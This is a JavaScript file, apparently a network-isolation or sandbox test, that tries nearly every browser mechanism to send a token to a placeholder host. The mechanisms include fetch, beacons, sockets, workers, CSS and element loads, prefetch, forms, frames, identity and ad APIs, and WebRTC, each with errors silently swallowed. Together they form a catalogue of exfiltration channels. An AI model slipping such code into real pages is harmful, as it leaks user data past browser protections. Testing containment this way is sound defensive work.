// What a page can do to send something to a host: HOST is its address, DATAGRAMS that
// of a listener for UDP there, SECURE one that wants TLS, NAME a name that leads there.
// The path of each request names the way.
const way = name => "http://HOST/" + name + "?t=" + token;
const attempt = action => { try { Promise.resolve(action()).catch(() => {}); } catch {} };
const add = (name, attributes, text) => {
	const e = document.createElement(name);
	for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
	if (text) e.textContent = text;
	document.body.append(e);
	return e;
};

// Scripts that ask.
attempt(() => fetch(way("fetch"), {mode: "no-cors"}));
attempt(() => fetch(way("keepalive"), {mode: "no-cors", keepalive: true}));
attempt(() => fetchLater(way("fetchlater"), {activateAfter: 0}));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", way("xhr")); x.send(); });
attempt(() => navigator.sendBeacon(way("beacon"), token));
attempt(() => new WebSocket("ws://HOST/websocket?t=" + token));
attempt(() => new EventSource(way("eventsource")));
attempt(() => import(way("import.js")));
attempt(() => caches.open("out").then(cache => cache.add(new Request(way("cache"), {mode: "no-cors"}))));
attempt(() => new FontFace("out", "url(" + way("fontface") + ")").load());
attempt(() => new AudioContext().audioWorklet.addModule(way("audioworklet")));
attempt(() => CSS.paintWorklet.addModule(way("paintworklet")));
attempt(() => WebAssembly.compileStreaming(fetch(way("wasm"))));

// Elements that load.
new Image().src = way("image");
new Audio(way("audio")).load();
add("img", {srcset: way("srcset") + " 1x"});
add("input", {type: "image", src: way("input")});
document.body.setAttribute("background", way("body-background"));
add("script", {src: way("script.js")});
add("script", {type: "module", src: way("module.js")});
add("iframe", {src: way("iframe")});
add("object", {data: way("object")});
add("embed", {src: way("embed")});
add("video", {src: way("video"), poster: way("poster")});
add("video", {crossorigin: "anonymous"}).innerHTML = "<track default kind=captions src='" + way("track") + "'>";
document.querySelectorAll("video").forEach(video => { for (const track of video.textTracks) track.mode = "showing"; });
document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + way("svg-image") + "' /><filter id=f><feImage href='" + way("svg-filter") + "' /></filter><rect width=9 height=9 filter='url(#f)' /></svg>");
add("style", {}, "@import url(" + way("import.css") + "); body { background: url(" + way("background") + "); cursor: url(" + way("cursor") + "), auto } " +
	"@font-face { font-family: f; src: url(" + way("font") + ") } p { font-family: f; list-style: url(" + way("list") + "); display: list-item; border-image: url(" + way("border") + "); mask-image: url(" + way("mask") + ") } " +
	"p::before { content: url(" + way("content") + ") }");
add("p", {}, "text in that font");
for (const rel of ["stylesheet", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest", "compression-dictionary"])
	add("link", {rel, href: way("link-" + rel)});
add("link", {rel: "preload", as: "image", href: way("preload")});
add("script", {type: "speculationrules"}, JSON.stringify({
	prefetch: [{source: "list", urls: [way("speculation")], eagerness: "immediate"}], prerender: [{source: "list", urls: [way("prerender")], eagerness: "immediate"}],
}));
add("script", {type: "webbundle"}, JSON.stringify({source: way("webbundle"), resources: [way("bundled")]}));
attempt(() => { add("fencedframe", {}).config = new FencedFrameConfig(way("fencedframe")); });

// Ways to go somewhere.
add("a", {href: "#ping", ping: way("ping")}).click();
add("a", {href: way("new-tab"), target: "_blank", rel: "noopener"}).click();
attempt(() => window.open(way("window")));
attempt(() => window.open("about:blank").eval("fetch('" + way("from-window") + "', {mode: 'no-cors'}).catch(() => {})"));
add("iframe", {name: "form-NUMBER"});
const form = add("form", {action: "http://HOST/form", method: "post", target: "form-NUMBER"});
form.innerHTML = "<input name=t value=" + token + ">";
form.submit();
add("iframe", {name: "download-NUMBER"});
add("a", {href: way("download"), download: "out", target: "download-NUMBER"}).click();
add("iframe", {srcdoc: "<meta http-equiv=refresh content='0; url=" + way("refresh") + "'>"});
add("iframe", {srcdoc: "<script>location = '" + way("location") + "'<\/script>"});
add("iframe", {src: "data:text/html,<script>fetch('" + way("data-frame").replace("?", "%3f") + "', {mode: 'no-cors'}).catch(() => {})<\/script>"});
for (const scheme of ["mailto:out@HOST?body=", "tel:", "web+out:", "ftp://HOST/ftp?t=", "view-source:http://HOST/view-source?t=", "ms-word:ofe|u|http://HOST/office?t="])
	add("iframe", {src: scheme + token});

// Scripts beside the page.
const ask = name => "fetch('" + way(name) + "', {mode: 'no-cors'}).catch(() => {});";
attempt(() => new Worker(URL.createObjectURL(new Blob([ask("worker") + "new WebSocket('ws://HOST/worker-websocket'); importScripts('" + way("importscripts") + "')"]))));
attempt(() => new SharedWorker("data:text/javascript," + ask("sharedworker").replace("?", "%3f")));
attempt(() => navigator.serviceWorker.register("/worker.js?host=HOST", {scope: "/scope-NUMBER"}));
attempt(async () => {
	const registered = await navigator.serviceWorker.register("/worker.js?host=", {scope: "/background-NUMBER"});
	await new Promise(done => setTimeout(done, 500));
	await registered.backgroundFetch.fetch("out", [way("backgroundfetch")]);
});

// Interfaces by which the browser itself asks.
attempt(() => new PaymentRequest([{supportedMethods: "https://SECURE/payment"}], {total: {label: "out", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
attempt(() => navigator.credentials.get({identity: {providers: [{configURL: "https://NAME/fedcm.json", clientId: token}]}, mediation: "optional"}));
attempt(() => navigator.credentials.get({publicKey: {challenge: new Uint8Array(9), rpId: "NAME"}}));
attempt(() => sharedStorage.createWorklet(way("sharedstorage")));
attempt(() => navigator.joinAdInterestGroup({owner: "https://NAME", name: token, biddingLogicURL: "https://NAME/bid.js"}, 9999));
attempt(() => navigator.runAdAuction({seller: "https://NAME", decisionLogicURL: "https://NAME/decide.js", interestGroupBuyers: ["https://NAME"]}));
attempt(() => document.hasPrivateToken && fetch("https://NAME/token", {privateToken: {version: 1, operation: "token-request"}}));
attempt(() => navigator.registerProtocolHandler("web+out", location.origin + "/?%s"));

// Datagrams, and TLS.
attempt(() => fetch("https://SECURE/tls?t=" + token, {mode: "no-cors"}));
attempt(() => new WebSocket("wss://SECURE/tls?t=" + token));
attempt(() => new WebTransport("https://DATAGRAMS/webtransport?t=" + token).closed);
for (const urls of ["stun:DATAGRAMS", "turn:DATAGRAMS?transport=udp", "turn:HOST?transport=tcp", "turns:HOST?transport=tcp"]) {
	attempt(() => {
		const peer = new RTCPeerConnection({iceServers: [{urls, username: token, credential: token}]});
		peer.createDataChannel("out");
		peer.createOffer().then(offer => peer.setLocalDescription(offer));
		const [ip, port] = "DATAGRAMS".split(":");
		peer.createOffer().then(() => peer.addIceCandidate({candidate: "candidate:1 1 udp 1 " + ip + " " + port + " typ host ufrag " + token, sdpMid: "0"})).catch(() => {});
	});
}
//# sourceMappingURL=http://HOST/sourcemap.map
